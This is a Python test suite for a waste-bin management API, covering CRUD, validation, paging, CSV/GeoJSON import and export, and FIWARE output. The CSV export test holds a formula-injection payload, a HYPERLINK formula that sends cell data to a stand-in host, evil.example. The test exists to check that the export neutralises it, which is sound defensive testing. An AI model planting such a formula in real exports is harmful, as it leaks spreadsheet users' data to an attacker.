"""Bins: CRUD, pages and filters, CSV and GeoJSON in and out, FIWARE; problem details name the field."""

from __future__ import annotations

import csv
import io

from tests.api.conftest import World
from tests.api.test_access import BIN, NEW_BIN


def test_create_read_replace_delete(world: World) -> None:
    client, h = world.client, world.auth("kalmar", "dispatcher")
    made = client.post("/v1/bins", json=NEW_BIN, headers=h)
    assert made.status_code == 201
    assert made.json()["binFullnessThreshold"] == 0.8
    assert made.json()["tenant"] == "kalmar"
    again = client.post("/v1/bins", json=NEW_BIN, headers=h)
    assert (again.status_code, again.json()["detail"]) == (409, "bin 'new-bin' exists already")
    replaced = client.put("/v1/bins/new-bin", json=NEW_BIN | {"capacity_l": 660}, headers=h)
    assert replaced.json()["capacity_l"] == 660
    mismatch = client.put("/v1/bins/other", json=NEW_BIN, headers=h)
    assert mismatch.status_code == 422
    assert "differs from the path" in mismatch.json()["detail"]
    assert client.delete("/v1/bins/new-bin", headers=h).status_code == 204
    assert client.get("/v1/bins/new-bin", headers=h).status_code == 404
    assert client.delete("/v1/bins/new-bin", headers=h).status_code == 404


def test_validation_errors_are_problem_details_that_name_the_field(world: World) -> None:
    answer = world.client.post(
        "/v1/bins",
        json=NEW_BIN | {"capacity_l": -5, "fraction": "gold"},
        headers=world.auth("kalmar", "admin"),
    )
    assert answer.status_code == 422
    assert answer.headers["content-type"] == "application/problem+json"
    problem = answer.json()
    assert problem["type"].endswith("/unprocessable-entity")
    assert problem["instance"] == "/v1/bins"
    assert {e["field"] for e in problem["errors"]} == {"body.capacity_l", "body.fraction"}
    calibration = world.client.post(
        "/v1/bins", json=NEW_BIN | {"full_distance_mm": 1500}, headers=world.auth("kalmar", "admin")
    )
    assert "full_distance_mm (1500) must be below empty_distance_mm (1200)" in calibration.json()["detail"]


def test_a_district_that_would_break_the_time_series_is_refused_with_its_reason(world: World) -> None:
    h = world.auth("kalmar", "dispatcher")
    for district in ("Centrum\\", "Norr\nSöder"):
        answer = world.client.put("/v1/bins/new-bin", json=NEW_BIN | {"district": district}, headers=h)
        assert answer.status_code == 422
        assert "no backslash or control character" in answer.text


def test_lists_come_in_pages_with_filters(world: World) -> None:
    client, h = world.client, world.auth("kalmar", "viewer")
    first = client.get("/v1/bins?limit=10", headers=h).json()
    assert (first["total"], len(first["items"]), first["next"]) == (24, 10, "/v1/bins?offset=10&limit=10")
    last = client.get("/v1/bins?limit=10&offset=20", headers=h).json()
    assert len(last["items"]) == 4
    assert last["next"] is None
    ids = [
        b["id"] for page in (first, client.get(first["next"], headers=h).json(), last) for b in page["items"]
    ]
    assert len(set(ids)) == 24
    plastic = client.get("/v1/bins?fraction=plastic&limit=100", headers=h).json()
    assert plastic["total"] == 12
    assert all(b["fraction"] == "plastic" for b in plastic["items"])
    assert client.get("/v1/bins?limit=0", headers=h).json()["errors"][0]["field"] == "query.limit"


def test_a_bins_csv_export_opens_no_formula_in_a_spreadsheet(world: World) -> None:
    h = world.auth("kalmar", "dispatcher")
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Öppna")'
    for n, address in enumerate((attack, "+46 480 45 00 00", "@SUM(1)", "-1+1")):
        made = world.client.post("/v1/bins", json=NEW_BIN | {"id": f"x-{n}", "address": address}, headers=h)
        assert made.status_code == 201, made.text
    rows = {
        r["id"]: r
        for r in csv.DictReader(io.StringIO(world.client.get("/v1/exports/bins.csv", headers=h).text))
    }
    assert rows["x-0"]["address"] == "'" + attack
    assert [rows[f"x-{n}"]["address"][:2] for n in (1, 2, 3)] == ["'+", "'@", "'-"]
    assert all(not r["lon"].startswith("'") for r in rows.values())  # numbers stay numbers


def test_csv_and_geojson_export_import_round_trip(world: World) -> None:
    client, h = world.client, world.auth("kalmar", "integration")
    csv_text = client.get("/v1/exports/bins.csv", headers=h).text
    assert csv_text.startswith("id,lat,lon,fraction,capacity_l")
    assert csv_text.count("\n") == 25
    geo = client.get("/v1/exports/bins.geojson", headers=h)
    assert geo.headers["content-type"] == "application/geo+json"
    assert len(geo.json()["features"]) == 24
    # into another tenant, as CSV and as GeoJSON
    vaxjo = world.auth("vaxjo", "integration")
    moved = csv_text.replace("kalmar-", "moved-")
    answer = client.post("/v1/imports/bins", content=moved, headers=vaxjo | {"content-type": "text/csv"})
    assert answer.json() == {"imported": 24}
    original = client.get(f"/v1/bins/{BIN}", headers=h).json()
    copied = client.get(f"/v1/bins/{BIN.replace('kalmar-', 'moved-')}", headers=vaxjo).json()
    assert {k: v for k, v in copied.items() if k not in ("id", "tenant")} == {
        k: v for k, v in original.items() if k not in ("id", "tenant")
    }
    answer = client.post("/v1/imports/bins", content=geo.content,
                         headers=vaxjo | {"content-type": "application/geo+json"})  # fmt: skip
    assert answer.json() == {"imported": 24}
    assert client.get(f"/v1/bins/{BIN}", headers=vaxjo).json()["location"] == original["location"]


def test_a_bad_import_names_the_row_and_changes_nothing(world: World) -> None:
    client, h = world.client, world.auth("vaxjo", "admin")
    before = client.get("/v1/bins", headers=h).json()["total"]
    rows = "id,lat,lon,fraction,capacity_l,empty_distance_mm,full_distance_mm\n" \
           "ok-1,57.0,14.8,paper,660,1200,200\nbad-2,57.0,14.8,paper,660,100,200\n"  # fmt: skip
    answer = client.post("/v1/imports/bins", content=rows, headers=h | {"content-type": "text/csv"})
    assert answer.status_code == 422
    assert answer.json()["detail"].startswith("row 2 (bad-2):")
    assert client.get("/v1/bins", headers=h).json()["total"] == before
    missing = client.post(
        "/v1/imports/bins", content="id,lat\nx,1\n", headers=h | {"content-type": "text/csv"}
    )
    assert missing.json()["detail"] == "the CSV lacks the column(s) lon, fraction"
    wrong = client.post("/v1/imports/bins", content="{}", headers=h | {"content-type": "text/plain"})
    assert wrong.status_code == 415


def test_a_bin_as_a_fiware_waste_container(world: World) -> None:
    entity = world.client.get(f"/v1/bins/{BIN}/fiware", headers=world.auth("kalmar", "viewer")).json()
    assert entity["id"] == f"urn:ngsi-ld:WasteContainer:kalmar:{BIN}"
    assert entity["type"] == "WasteContainer"
    assert entity["location"]["value"]["type"] == "Point"
    assert entity["binCapacity"] == {"type": "Property", "value": 3000.0, "unitCode": "LTR"}
    assert 0 < entity["fillingLevel"]["value"] <= 1
    assert entity["fillingLevel"]["observedAt"].startswith("2026-11-23")


def test_the_openapi_document_is_complete_with_examples(world: World) -> None:
    spec = world.client.get("/openapi.json").json()
    schemas = spec["components"]["schemas"]
    operations = [(path, method, op) for path, item in spec["paths"].items() for method, op in item.items()]
    assert len(operations) >= 45
    for path, method, op in operations:
        assert op.get("summary"), f"{method} {path} has no summary"
        assert op.get("tags"), f"{method} {path} has no tag"
        body = op.get("requestBody", {}).get("content", {})
        for media, content in body.items():
            ref = content.get("schema", {}).get("$ref", "")
            named = schemas.get(ref.rsplit("/", 1)[-1], {})
            described = ("examples", "$ref", "allOf", "anyOf", "default")
            fields = named.get("properties", {}).values()
            has_example = (
                "example" in content
                or "examples" in named
                or all(any(k in field for k in described) for field in fields)
            )
            assert has_example, f"{method} {path} ({media}) has no example"
    problem = spec["paths"]["/v1/bins/{bin_id}"]["get"]["responses"]["404"]["content"]
    assert "application/problem+json" in problem
